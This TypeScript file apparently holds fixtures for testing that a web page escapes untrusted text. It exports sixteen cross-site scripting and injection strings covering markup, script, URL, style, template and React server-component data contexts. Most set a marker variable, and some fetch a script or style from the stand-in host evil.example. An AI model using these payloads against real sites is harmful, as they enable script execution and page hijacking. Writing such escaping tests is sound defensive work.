/**
 * Texts that a page must display literally. As anything but text, each would set `window.ran`, send a request to a
 * server of its own, or change the page's appearance: in markup, in a script, in an address, in a style, or in React's
 * data.
 */
export const payloads = [
  `</script><script>window.ran=1</script>`,
  `<!--<script>window.ran=1</script>-->`,
  `<img src=x onerror="window.ran=1">`,
  `'"><svg onload=window.ran=1>`,
  `"><iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<a href="javascript:window.ran=1" onmouseover=window.ran=1 autofocus onfocus=window.ran=1>x</a>`,
  `javascript:window.ran=1`,
  `data:text/html,<script>opener.ran=1</script>`,
  `</style><style>*{background:url(https://evil.example/style)}</style>`,
  `red;background:url(https://evil.example/attribute)}*{display:none`,
  `</title></textarea><script src="https://evil.example/script"></script>`,
  `\${window.ran=1}{{constructor.constructor('window.ran=1')()}}`,
  `"]);self.__next_f.push([1,"0:null"]);window.ran=1;([["`,
  `\n0:["$","script",null,{"dangerouslySetInnerHTML":{"__html":"window.ran=1"}}]\n`,
  `["$","img",null,{"src":"x","onError":"$h1","ref":"$F2"}] $undefined $@1 $L2`,
  `\u2028window.ran=1//\u2029]]>\u0000\u202e`,
] as const
